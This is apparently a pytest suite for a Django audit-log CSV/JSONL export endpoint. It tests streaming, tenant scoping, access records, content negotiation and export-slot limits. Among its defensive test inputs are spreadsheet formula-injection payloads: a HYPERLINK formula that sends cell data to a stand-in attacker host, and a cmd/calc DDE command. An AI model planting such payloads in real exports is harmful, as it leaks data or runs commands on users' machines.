"""GET /api/v1/audit-events/export?format=csv|jsonl."""

import csv
import io
import json
import re

import pytest
from django.db import connection

from audit.api.serializers import event_document
from audit.exports import CSV_COLUMNS, csv_cell, export_rows
from audit.models import AuditEvent
from audit.tests.factories import events_create

EXPORT = "/api/v1/audit-events/export"
VERIFIER_FIELDS = [
    "id", "tenant", "event_id", "occurred_at", "received_at", "action", "outcome", "severity",
    "actor", "target", "source_ip", "user_agent", "description", "metadata", "sequence",
    "prev_hash", "hash",
]  # fmt: skip


@pytest.fixture
def recorded(monkeypatch):
    """Access records submitted by the endpoint (the submission service is the ingest
    side's; its real path is exercised in test_api_read_access.py with a worker)."""
    calls = []
    monkeypatch.setattr(
        "audit.services.submission.record_system_event", lambda **kw: calls.append(kw)
    )
    return calls


@pytest.fixture
def reader(key_client):
    return key_client(scopes=("read",))


def _body(response) -> str:
    return b"".join(response.streaming_content).decode()


@pytest.mark.django_db
def test_it_streams_jsonl_lines_in_the_detail_shape_newest_first(reader, tenant, recorded):
    events = events_create(
        tenant_id=tenant.pk, count=3, metadata={"ünïcode": "ok", "n": [1, 2]}, target=None
    )
    response = reader.get(EXPORT, {"format": "jsonl"})
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "application/x-ndjson"
    lines = _body(response).splitlines()
    documents = [json.loads(line) for line in lines]
    assert [d["id"] for d in documents] == [str(e.pk) for e in reversed(events)]
    assert all(list(d) == VERIFIER_FIELDS for d in documents)
    stored = AuditEvent.objects.select_related("tenant").get(pk=events[0].pk)
    assert documents[-1] == event_document(stored)
    assert documents[-1]["target"] is None
    assert documents[-1]["metadata"] == {"ünïcode": "ok", "n": [1, 2]}


@pytest.mark.django_db
def test_it_streams_csv_with_a_stable_header_and_json_metadata(reader, tenant, recorded):
    [event] = events_create(
        tenant_id=tenant.pk,
        count=1,
        description='says "hi", then\nleaves',
        metadata={"b": 1, "a": {"x": None}},
    )
    response = reader.get(EXPORT, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(_body(response))))
    assert rows[0] == list(CSV_COLUMNS)
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["id"] == str(event.pk)
    assert row["tenant"] == "acme"
    assert row["description"] == 'says "hi", then\nleaves'
    assert json.loads(row["metadata"]) == {"a": {"x": None}, "b": 1}
    assert row["occurred_at"] == event.occurred_at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z", row["received_at"])
    assert row["actor_id"] == event.actor_id and row["target_type"] == "invoice"
    assert row["sequence"] == str(event.sequence) and row["hash"] == event.hash


@pytest.mark.django_db
def test_it_defuses_formulas_in_csv_but_keeps_jsonl_exact(reader, tenant, recorded):
    payload = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    [event] = events_create(
        tenant_id=tenant.pk, count=1, description=payload, user_agent="@SUM(1+1)"
    )
    rows = list(csv.reader(io.StringIO(_body(reader.get(EXPORT, {"format": "csv"})))))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["description"] == "'" + payload
    assert row["user_agent"] == "'@SUM(1+1)"
    assert row["action"] == event.action  # ordinary text untouched
    [line] = _body(reader.get(EXPORT, {"format": "jsonl"})).splitlines()
    assert json.loads(line)["description"] == payload


@pytest.mark.django_db
def test_jsonl_escapes_the_line_breaks_json_leaves_raw(reader, tenant, recorded):
    """U+0085, U+2028 and U+2029 split a line for str.splitlines() and JavaScript readers."""
    text = "one\u2028two\u2029three\x85four"
    events_create(tenant_id=tenant.pk, count=2, description=text, metadata={"k\u2028": text})
    body = _body(reader.get(EXPORT, {"format": "jsonl"}))
    lines = body.splitlines()
    assert len(lines) == 2
    assert "\\u2028" in lines[0] and "\\u2029" in lines[0] and "\\u0085" in lines[0]
    document = json.loads(lines[0])
    assert document["description"] == text
    assert document["metadata"] == {"k\u2028": text}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" =2+2", "' =2+2"),
        ("\n=3+3", "'\n=3+3"),
        ("\uff1d4+4", "'\uff1d4+4"),
        ("  \uff0b1", "'  \uff0b1"),
        # Control and format characters and other breaks before the sign (a security review)
        ("\u000b=1+1", "'\u000b=1+1"),
        ("\u001c=4+4", "'\u001c=4+4"),
        ("\u2028=cmd|' /C calc'!A0", "'\u2028=cmd|' /C calc'!A0"),
        ("\ufeff=6+6", "'\ufeff=6+6"),
        ("\u200b\u2003@SUM(A1)", "'\u200b\u2003@SUM(A1)"),
        ("\ufeffplain", "\ufeffplain"),
        ("a=b", "a=b"),
        ("  plain", "  plain"),
        ("", ""),
        (42, 42),
    ],
)
def test_csv_cell_prefixes_only_formula_triggers(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.django_db
def test_it_names_the_file_after_the_tenant_and_the_time(reader, tenant, recorded):
    response = reader.get(EXPORT, {"format": "csv"})
    disposition = response["Content-Disposition"]
    assert re.fullmatch(
        r'attachment; filename="traceledger-acme-\d{8}T\d{6}Z\.csv"', disposition
    ), disposition
    jsonl = reader.get(EXPORT, {"format": "jsonl"})["Content-Disposition"]
    assert jsonl.endswith('.jsonl"')


@pytest.mark.django_db
def test_it_exports_only_the_filtered_events_of_the_callers_tenant(
    reader, tenant, other_tenant, recorded
):
    kept = events_create(tenant_id=tenant.pk, count=2, action="user.login", outcome="failure")
    events_create(tenant_id=tenant.pk, count=2, action="user.login")
    events_create(tenant_id=other_tenant.pk, count=2, action="user.login", outcome="failure")
    response = reader.get(EXPORT, {"format": "jsonl", "action": "user.*", "outcome": "failure"})
    ids = [json.loads(line)["id"] for line in _body(response).splitlines()]
    assert sorted(ids) == sorted(str(e.pk) for e in kept)


@pytest.mark.django_db
def test_it_records_every_export_with_the_filters_used_even_by_a_service_key(
    reader, tenant, recorded
):
    reader.get(EXPORT, {"format": "csv", "severity": "critical", "actor_id": "bob"})
    [record] = recorded
    assert record["tenant_id"] == tenant.pk
    assert record["action"] == "audit_log.export"
    assert record["actor_type"] == "service"
    assert record["metadata"]["filters"] == {
        "actor_id": "bob",
        "severity": "critical",
        "format": "csv",
    }


@pytest.mark.django_db
def test_a_head_request_gets_the_headers_and_records_no_export(reader, tenant, recorded):
    events_create(tenant_id=tenant.pk, count=2)
    response = reader.head(EXPORT, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.csv"')
    assert _body(response) == ""
    assert recorded == []


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({}, "format"),
        ({"format": "xml"}, "format"),
        ({"format": "csv", "occurred_before": "soon"}, "occurred_before"),
        ({"format": "csv", "page_size": "10"}, "page_size"),
    ],
)
def test_it_answers_400_naming_the_bad_parameter(reader, params, field, recorded):
    response = reader.get(EXPORT, params)
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert list(response.json()["error"]["fields"]) == [field]
    assert recorded == []


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("fmt", "accept"),
    [
        ("csv", "application/xml"),
        ("csv", "application/json"),  # the errors' type, not the export's
        ("csv", "application/x-ndjson"),  # the other format's
        ("jsonl", "text/csv"),
        ("jsonl", "text/*"),
        ("csv", ""),  # admits nothing, as for every other GET
    ],
)
def test_it_answers_406_to_an_accept_the_format_cannot_satisfy(reader, fmt, accept, recorded):
    """As every other GET does: before, it streamed CSV to `Accept: application/xml`."""
    response = reader.get(EXPORT, {"format": fmt}, HTTP_ACCEPT=accept)
    assert response.status_code == 406
    assert response["Content-Type"] == "application/json"
    error = response.json()["error"]
    assert error["code"] == "not_acceptable"
    assert error["message"].startswith("Could not satisfy the request Accept header")
    assert recorded == []  # refused before the view: nothing was exported


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("fmt", "accept"),
    [
        ("csv", None),
        ("csv", "*/*"),
        ("csv", "text/*"),
        ("csv", "text/csv"),
        ("csv", "text/csv; charset=utf-8"),
        ("csv", "application/json, text/csv;q=0.5"),
        ("csv", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),  # a browser
        ("jsonl", "application/x-ndjson"),
        ("jsonl", "application/*"),
        ("jsonl", "*/*"),
    ],
)
def test_it_streams_to_an_accept_that_admits_the_format(reader, tenant, fmt, accept, recorded):
    events_create(tenant_id=tenant.pk, count=1)
    headers = {} if accept is None else {"HTTP_ACCEPT": accept}
    response = reader.get(EXPORT, {"format": fmt}, **headers)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv" if fmt == "csv" else "application/x")
    assert _body(response)


@pytest.mark.django_db
def test_an_unknown_format_is_a_400_whatever_accept_says(reader, recorded):
    response = reader.get(EXPORT, {"format": "xml"}, HTTP_ACCEPT="application/xml")
    assert response.status_code == 400
    assert list(response.json()["error"]["fields"]) == ["format"]


@pytest.mark.django_db
def test_it_answers_401_403_and_403_for_another_tenant(api_client, key_client, recorded):
    assert api_client.get(EXPORT, {"format": "csv"}).status_code == 401
    assert key_client(scopes=("ingest",)).get(EXPORT, {"format": "csv"}).status_code == 403
    reader = key_client(scopes=("read",))
    assert reader.get(EXPORT, {"format": "csv", "tenant": "globex"}).status_code == 403
    assert recorded == []


@pytest.mark.django_db
def test_it_requires_a_superuser_to_name_the_tenant(user_client, superuser, tenant, recorded):
    events_create(tenant_id=tenant.pk, count=2)
    client = user_client(superuser)
    response = client.get(EXPORT, {"format": "jsonl"})
    assert response.status_code == 400
    assert list(response.json()["error"]["fields"]) == ["tenant"]
    response = client.get(EXPORT, {"format": "jsonl", "tenant": "acme"})
    assert len(_body(response).splitlines()) == 2
    assert recorded[-1]["tenant_id"] == tenant.pk
    assert recorded[-1]["metadata"]["superuser"] is True


@pytest.mark.django_db(transaction=True)  # autocommit, as in a real request
def test_it_reads_through_a_server_side_cursor_that_is_not_materialised(tenant, monkeypatch):
    events_create(tenant_id=tenant.pk, count=6)
    monkeypatch.setattr("audit.exports.CHUNK_SIZE", 2)
    monkeypatch.setattr("audit.exports.ROWS_PER_WRITE", 2)
    chunks = export_rows(AuditEvent.objects.filter(tenant=tenant), "jsonl")
    first = next(chunks)
    with connection.cursor() as cursor:
        # WITH HOLD (Django's choice in autocommit) would materialise the whole result first.
        cursor.execute("SELECT is_holdable FROM pg_cursors WHERE name LIKE '_django_curs_%'")
        assert cursor.fetchall() == [(False,)]
    rest = list(chunks)
    assert sum(chunk.count(b"\n") for chunk in [first, *rest]) == 6


def _close(response) -> None:
    """What the WSGI server does with a response, read or not (without the test client's
    request_finished, which would close the test's database connection)."""
    from django.core.signals import request_finished
    from django.db import close_old_connections

    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)


@pytest.fixture
def one_export_slot(monkeypatch):
    import threading

    monkeypatch.setattr("audit.export_slots._slots", threading.BoundedSemaphore(1))
    monkeypatch.setattr("django.conf.settings.TRACELEDGER_EXPORTS_PER_PROCESS", 1)


@pytest.mark.django_db
def test_exports_beyond_the_per_process_limit_get_429_and_are_not_recorded(
    reader, tenant, recorded, one_export_slot
):
    """Eight streaming exports held every web thread, and /healthz, reads and ingest went
    unanswered until they ended (a scale review)."""
    events_create(tenant_id=tenant.pk, count=3)
    streaming = reader.get(EXPORT, {"format": "jsonl"})
    assert streaming.status_code == 200

    refused = reader.get(EXPORT, {"format": "csv"})

    assert refused.status_code == 429
    assert refused.json()["error"]["code"] == "overloaded"
    assert "1 export(s) are already streaming" in refused.json()["error"]["message"]
    assert refused["Retry-After"] == "10"
    assert len(recorded) == 1  # the first export only

    # Read to the end, the test client closes it, as a WSGI server does: the slot is free.
    assert len(_body(streaming).splitlines()) == 3
    again = reader.get(EXPORT, {"format": "jsonl"})
    assert again.status_code == 200
    _close(again)


@pytest.mark.django_db
def test_an_export_never_read_gives_its_slot_back_when_closed(
    reader, tenant, recorded, one_export_slot
):
    events_create(tenant_id=tenant.pk, count=2)

    _close(reader.get(EXPORT, {"format": "jsonl"}))  # a client gone before the first byte

    response = reader.get(EXPORT, {"format": "jsonl"})
    assert response.status_code == 200
    _close(response)


@pytest.mark.django_db
def test_a_refused_record_gives_the_slot_back(reader, tenant, monkeypatch, one_export_slot):
    from traceledger.errors import DependencyUnavailable

    def unavailable(**kwargs):
        raise DependencyUnavailable("the access record cannot be kept")

    monkeypatch.setattr("audit.api.export.access_record", unavailable)
    assert reader.get(EXPORT, {"format": "jsonl"}).status_code == 503
    assert reader.get(EXPORT, {"format": "jsonl"}).status_code == 503  # not 429: slot free


def test_rows_thrown_away_unclosed_give_their_slot_back_when_collected():
    """A middleware raising after the view returned the response would leak the slot."""
    import gc
    import threading

    from audit.export_slots import SlotRows

    semaphore = threading.BoundedSemaphore(1)
    semaphore.acquire()
    rows = SlotRows(iter([b"x"]), semaphore)
    del rows
    gc.collect()

    assert semaphore.acquire(blocking=False)


def test_under_gunicorn_parts_go_out_in_slices_each_extending_the_stall_deadline(monkeypatch):
    """A 300 KB part took a client reading 64 KB/s longer than a 3 s stall timeout: it was
    cut while it read. Sliced, the deadline moves on every 16 KB the client takes."""
    import socket
    import threading

    from audit.export_slots import SLICE, SlotRows
    from traceledger import stall_watch

    extended = []
    monkeypatch.setattr(stall_watch.Watch, "extend", lambda self, s: extended.append(s))
    semaphore = threading.BoundedSemaphore(1)
    semaphore.acquire()
    parts = [b"a" * (SLICE * 3 + 5), b"b" * 10]
    left, right = socket.socketpair()
    with left, right:
        rows = SlotRows(iter(parts), semaphore, left)
        pieces = list(rows)
        assert {w.sock for w in stall_watch._watches} == {left}
        rows.close()

    assert [len(p) for p in pieces] == [SLICE, SLICE, SLICE, 5, 10]
    assert b"".join(pieces) == b"".join(parts)
    assert len(extended) == len(pieces)
    assert left not in {w.sock for w in stall_watch._watches}
    assert semaphore.acquire(blocking=False)
